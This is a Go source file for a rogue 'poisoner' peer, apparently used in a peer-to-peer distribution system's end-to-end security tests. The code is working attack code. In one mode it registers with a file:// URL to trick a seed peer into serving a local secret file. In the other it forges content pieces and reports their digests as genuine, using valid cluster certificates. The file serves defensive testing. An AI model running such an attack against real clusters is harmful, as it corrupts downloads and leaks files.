// Command poisoner is an attacker speaking Damselfly's protocols, for the
// end-to-end security tests. It registers with a scheduler and records the
// decision it got in a JSON stats file.
//
//	poisoner -mode file -scheduler S -task ID -url file:///secret -stats F
//	    registers under a victim task's ID with a file:// URL, hoping the
//	    scheduler makes a seed peer read that file and serve it as the task.
//	poisoner -mode poison -scheduler S -url URL -stats F [-seed-request]
//	    registers for URL's task (claiming to be a seed peer answering
//	    SeedTasks with -seed-request); when sent to the origin it fetches the
//	    real content, flips one byte of every piece, reports the forged
//	    pieces' digests and serves the forged pieces to whoever asks.
//
// With -tls-cert/-tls-key/-tls-ca it speaks mTLS with that (peer)
// certificate: a valid member of the cluster that lies.
package main

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"io"
	"net/http"
	"os"
	"os/signal"
	"strconv"
	"sync"
	"syscall"

	"google.golang.org/grpc"
	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/status"

	"github.com/damselfly-io/damselfly/api/peerv1"
	"github.com/damselfly-io/damselfly/api/schedulerv1"
	"github.com/damselfly-io/damselfly/core"
	"github.com/damselfly-io/damselfly/internal/pki"
	"github.com/damselfly-io/damselfly/test/e2e/attack"
)

// Stats is what the rogue writes after every change.
type Stats struct {
	// Decision is the scheduler's first answer: fail, wait, back_to_source,
	// parents, or the stream's end ("ended: ...").
	Decision      string `json:"decision"`
	Ready         bool   `json:"ready"` // poison: forged digests reported
	HostID        string `json:"host_id"`
	PieceRequests int64  `json:"piece_requests"`
}

type rogue struct {
	taskID string
	stats  *attack.Stats[Stats]

	mu     sync.Mutex
	pieces [][]byte // forged
	length int64
	ps     uint32
}

func (r *rogue) update(f func(*Stats)) { r.stats.Update(f) }

type peerServer struct {
	peerv1.UnimplementedPeerServer
	r *rogue
}

func (s *peerServer) SyncPieces(req *peerv1.SyncPiecesRequest, stream grpc.ServerStreamingServer[peerv1.PieceState]) error {
	s.r.mu.Lock()
	n, l, ps := len(s.r.pieces), s.r.length, s.r.ps
	s.r.mu.Unlock()
	if req.GetTaskId() != s.r.taskID || n == 0 {
		return status.Errorf(codes.NotFound, "task %s not held", req.GetTaskId())
	}
	return stream.Send(&peerv1.PieceState{ContentLength: l, PieceSize: ps, Pieces: attack.AllPieces(uint32(n)), Done: true})
}

func (r *rogue) servePiece(w http.ResponseWriter, req *http.Request) {
	n, err := strconv.Atoi(req.PathValue("n"))
	r.mu.Lock()
	ok := err == nil && req.PathValue("task") == r.taskID && n >= 0 && n < len(r.pieces)
	var b []byte
	if ok {
		b = r.pieces[n]
	}
	r.mu.Unlock()
	if !ok {
		http.Error(w, "not held", http.StatusNotFound)
		return
	}
	r.update(func(s *Stats) { s.PieceRequests++ })
	w.Header().Set("Content-Length", strconv.Itoa(len(b)))
	_, _ = w.Write(b)
}

func main() {
	mode := flag.String("mode", "", "file or poison")
	schedAddr := flag.String("scheduler", "", "scheduler host:port")
	url := flag.String("url", "", "URL to register with")
	task := flag.String("task", "", "task ID to register under (file mode)")
	statsPath := flag.String("stats", "", "JSON stats file")
	seedRequest := flag.Bool("seed-request", false, "register with seed_request")
	tc := attack.TLSFlags()
	flag.Parse()
	if *schedAddr == "" || *url == "" || *statsPath == "" || (*mode != "file" && *mode != "poison") || (*mode == "file" && *task == "") {
		fmt.Fprintln(os.Stderr, "rogue: -mode file|poison, -scheduler, -url and -stats are required (-task for file)")
		os.Exit(2)
	}
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()
	creds, err := tc.LoadFiles()
	if err != nil {
		fmt.Fprintln(os.Stderr, "rogue:", err)
		os.Exit(2)
	}
	if err := run(ctx, *mode, *schedAddr, *url, *task, *statsPath, *seedRequest, creds); err != nil && ctx.Err() == nil {
		fmt.Fprintln(os.Stderr, "rogue:", err)
		os.Exit(1)
	}
}

func run(ctx context.Context, mode, schedAddr, url, task, statsPath string, seedRequest bool, creds *pki.Creds) error {
	stats, err := attack.NewStats[Stats](statsPath)
	if err != nil {
		return err
	}
	if mode == "poison" {
		task = core.TaskID(url, core.TaskOptions{})
	}
	r := &rogue{stats: stats, taskID: task}
	host, stop, err := attack.Serve("rogue", creds, &peerServer{r: r}, r.servePiece)
	if err != nil {
		return err
	}
	defer stop()
	r.update(func(s *Stats) { s.HostID = host.GetId() })
	stream, conn, err := attack.Announce(ctx, schedAddr, creds, &schedulerv1.Register{
		PeerId: core.NewPeerID("rogue"), Host: host, Task: &schedulerv1.TaskSpec{TaskId: task, Url: url},
		SeedRequest: seedRequest,
	})
	if err != nil {
		return err
	}
	defer conn.Close()
	var decision string
	for decision == "" {
		m, err := stream.Recv()
		if err != nil {
			decision = "ended: " + err.Error()
			break
		}
		switch {
		case m.GetFail() != nil:
			decision = "fail"
		case m.GetWait() != nil:
			decision = "wait"
		case m.GetBackToSource() != nil:
			decision = "back_to_source"
		case m.GetParents() != nil:
			decision = "parents"
		}
	}
	r.update(func(s *Stats) { s.Decision = decision })
	fmt.Println("rogue: scheduler said", decision)
	if mode == "poison" && decision == "back_to_source" {
		if err := r.poison(ctx, stream, url); err != nil {
			return err
		}
	}
	// Stay until told to stop (a registered peer, or a refused one).
	for {
		if _, err := stream.Recv(); err != nil {
			<-ctx.Done()
			return nil
		}
	}
}

// poison fetches the real content, forges every piece and reports the
// forged pieces' digests as the origin's.
func (r *rogue) poison(ctx context.Context, stream schedulerv1.Scheduler_AnnounceClient, url string) error {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, url, nil)
	if err != nil {
		return err
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		return fmt.Errorf("fetch %s: %w", url, err)
	}
	body, err := io.ReadAll(resp.Body)
	resp.Body.Close()
	if err != nil || resp.StatusCode != http.StatusOK {
		return errors.Join(err, fmt.Errorf("fetch %s: %s", url, resp.Status))
	}
	l := int64(len(body))
	ps := core.PieceSize(l)
	n := core.PieceCount(l, ps)
	pieces := make([][]byte, n)
	results := make([]*schedulerv1.PieceResult, n)
	for i := range pieces {
		off, size := core.PieceRange(uint32(i), l, ps)
		p := append([]byte(nil), body[off:off+size]...)
		p[len(p)/2] ^= 0x5a
		pieces[i] = p
		results[i] = &schedulerv1.PieceResult{Number: uint32(i), Digest: core.PieceDigest(p), Length: uint32(size), CostNs: 1e6}
	}
	r.mu.Lock()
	r.pieces, r.length, r.ps = pieces, l, ps
	r.mu.Unlock()
	for _, m := range []*schedulerv1.PeerMessage{
		{Msg: &schedulerv1.PeerMessage_Meta{Meta: &schedulerv1.TaskMeta{ContentLength: l, PieceSize: ps}}},
		{Msg: &schedulerv1.PeerMessage_Pieces{Pieces: &schedulerv1.PiecesDone{Pieces: results}}},
		{Msg: &schedulerv1.PeerMessage_Done{Done: &schedulerv1.PeerDone{ContentLength: l}}},
	} {
		if err := stream.Send(m); err != nil {
			return fmt.Errorf("report forged pieces: %w", err)
		}
	}
	r.update(func(s *Stats) { s.Ready = true })
	fmt.Printf("rogue: reported %d forged pieces of %d bytes\n", n, ps)
	return nil
}
